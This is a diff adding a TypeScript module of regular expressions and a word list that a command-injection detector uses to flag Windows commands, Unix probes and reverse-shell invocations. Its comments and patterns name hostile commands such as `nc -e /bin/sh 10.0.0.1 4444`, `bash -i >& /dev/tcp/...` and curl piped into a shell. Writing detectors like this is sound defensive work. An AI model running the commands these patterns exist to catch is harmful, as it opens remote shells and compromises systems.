@@ -1,0 +1,43 @@
+/**
+ * Command lines recognised without a shell separator: Windows commands that only ever appear as commands
+ * (`cmd /c`, `for /f ... do`, `net user`, `reg add HKLM\...`, `netsh advfirewall`, `powershell -enc`,
+ * `certutil -urlcache`), a whole value that is a Unix command line (`uname -a`, `whoami`, `perl -e '...'`,
+ * `nc -e /bin/sh 10.0.0.1 4444`), and GTFOBins-style invocations anywhere (`bash -i >& /dev/tcp/...`,
+ * `find . -exec /bin/sh \;`, `awk 'BEGIN {system("/bin/sh")}'`, `tar --checkpoint-action=exec=...`).
+ * Used by the cmdi detector; every pattern is a fixed shape with bounded gaps.
+ */
+
+/** A Windows command at the start of the value or right after a separator. */
+export const WINDOWS_COMMAND =
+  /(?:^|[;&|\n\r`(]\s{0,4})(?:cmd(?:\.exe)?\s{1,4}\/[ckr]\b|for\s{1,4}\/[fdlr]\b[^\n]{0,200}\bdo\b|net1?(?:\.exe)?\s{1,4}(?:localgroup\b|(?:user|group|view|share|use|session|accounts|config|start|stop)(?:\s*$|\s[^\n]{0,100}\/(?:add|delete|del|domain|active|y|times|persistent)\b|\s{1,4}\\\\))|reg(?:\.exe)?\s{1,4}(?:add|query|delete|save|export|import|load)\s{1,4}["']?(?:hk|\\\\)|netsh(?:\.exe)?\s{1,4}(?:firewall|advfirewall|interface|wlan|winhttp|int|ipsec|http)\b|(?:powershell|pwsh)(?:\.exe)?\s{1,4}(?:-|\/)[a-z]|wmic(?:\.exe)?\s{1,4}(?:process|os|useraccount|service|shadowcopy|\/node)\b|certutil(?:\.exe)?\s{1,4}[-\/](?:urlcache|decode|encode|f\b)|bitsadmin(?:\.exe)?\s{1,4}\/|schtasks(?:\.exe)?\s{1,4}\/|vssadmin\s{1,4}(?:delete|list|create)\b|wevtutil\s{1,4}cl\b|rundll32(?:\.exe)?\s{1,4}\S{1,100},|regsvr32(?:\.exe)?\s{1,4}\/|mshta(?:\.exe)?\s{1,4}(?:https?:|vbscript:|javascript:)|taskkill\s{1,4}\/|tasklist(?:\s{1,4}\/|\s*$)|systeminfo\b|whoami(?:\.exe)?(?:\s{1,4}\/|\s*$)|ipconfig(?:\.exe)?(?:\s{1,4}\/|\s*$)|(?:type|dir|del|copy|move)\s{1,4}[a-z]:\\|sc(?:\.exe)?\s{1,4}(?:query|create|config|stop|start)\s{1,4}\w|start\s{1,4}\/b\b)/;
+
+/** A whole value that is a Unix probe or tool invocation (`^...$`: a sentence containing the words passes). */
+export const UNIX_COMMAND_LINE =
+  /^\s*(?:uname(?:\s{1,4}-[a-z]{1,6})?|whoami|ifconfig(?:\s{1,4}-a)?|systeminfo|which\s{1,4}(?:curl|wget|nc|ncat|netcat|python3?|perl|ruby|php|gcc|bash|sh|nmap|socat|telnet)|perl\s{1,4}-[a-z]{0,3}e\s|python[23]?\s{1,4}-c\s|ruby\s{1,4}-e\s|php\s{1,4}-r\s|node\s{1,4}-e\s|lua\s{1,4}-e\s|nc(?:at)?\s{1,4}(?:-[a-z]{1,4}\s{1,4}){0,4}\S{1,100}\s{1,4}\d{1,5}|sleep\s{1,4}\d{1,4}|ping\s{1,4}-[nc]\s{1,4}\d{1,4}|id\s{1,4}-[a-z]|cat\s{1,4}\/[a-z]|ls\s{1,4}-[a-z]{1,5}|wget\s{1,4}https?:|curl\s{1,4}(?:-[a-z]{1,4}\s{1,4}){0,4}https?:[^\s]{1,300}\s*\|)[^\n]{0,400}$/;
+
+/** GTFOBins-style invocations that spawn shells or open reverse connections, anywhere in a value. */
+export const GTFOBINS =
+  /\/dev\/(?:tcp|udp)\/[\w.-]{1,100}\/\d{1,5}|\b(?:bash|sh|zsh)\s{1,4}-i\s{0,4}[>&<]|\bnc(?:at)?\s{1,4}(?:-[a-z]{1,4}\s{1,4}){0,4}-[a-z]{0,3}e\s{1,4}\/|-exec\s{1,4}\/bin\/(?:ba)?sh\b|\bsystem\s*\(\s*["']\/bin\/(?:ba)?sh|--checkpoint-action\s*=\s*exec|\bmkfifo\s{1,4}\/tmp\/|\b0<&\d{2,4}\b|\bexec\s{1,4}\d{1,3}<>\/dev\/|\bsocat\s{1,4}[^\n]{0,100}exec:|\bbusybox\s{1,4}(?:nc|sh|telnetd|httpd|wget)\b|\bpython[23]?\s{1,4}-c\s{1,4}['"]\s{0,4}import\s{1,4}(?:os|pty|socket|subprocess)|\bpty\.spawn\s*\(|\b(?:curl|wget)\s[^|;\n]{1,300}\|\s*(?:ba)?sh\b|\bchmod\s{1,4}(?:\+x|[0-7]{3,4})\s{1,4}\/tmp\//;
+
+/** First words of the command lines above: a value starting with anything else skips both patterns. */
+export const COMMAND_LINE_WORDS: ReadonlySet<string> = new Set([
+  'cmd', 'cmd.exe', 'for', 'net', 'net1', 'net.exe', 'reg', 'reg.exe', 'netsh', 'netsh.exe', 'powershell', 'powershell.exe',
+  'pwsh', 'pwsh.exe', 'wmic', 'wmic.exe', 'certutil', 'certutil.exe', 'bitsadmin', 'bitsadmin.exe', 'schtasks', 'schtasks.exe',
+  'vssadmin', 'wevtutil', 'rundll32', 'rundll32.exe', 'regsvr32', 'regsvr32.exe', 'mshta', 'mshta.exe', 'taskkill', 'tasklist',
+  'systeminfo', 'whoami', 'whoami.exe', 'ipconfig', 'ipconfig.exe', 'type', 'dir', 'del', 'copy', 'move', 'sc', 'sc.exe', 'start',
+  'uname', 'ifconfig', 'which', 'perl', 'python', 'python2', 'python3', 'ruby', 'php', 'node', 'lua', 'nc', 'ncat', 'sleep',
+  'ping', 'id', 'cat', 'ls', 'wget', 'curl',
+]);
+
+/** The first word of a value (letters, digits, dots), without leading whitespace; at most 16 characters. */
+export function firstWord(s: string): string {
+  let i = 0;
+  while (i < s.length && (s.charCodeAt(i) === 32 || s.charCodeAt(i) === 9)) i++;
+  const start = i;
+  while (i < s.length && i - start < 16) {
+    const c = s.charCodeAt(i);
+    if ((c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 46) i++;
+    else break;
+  }
+  return s.slice(start, i);
+}
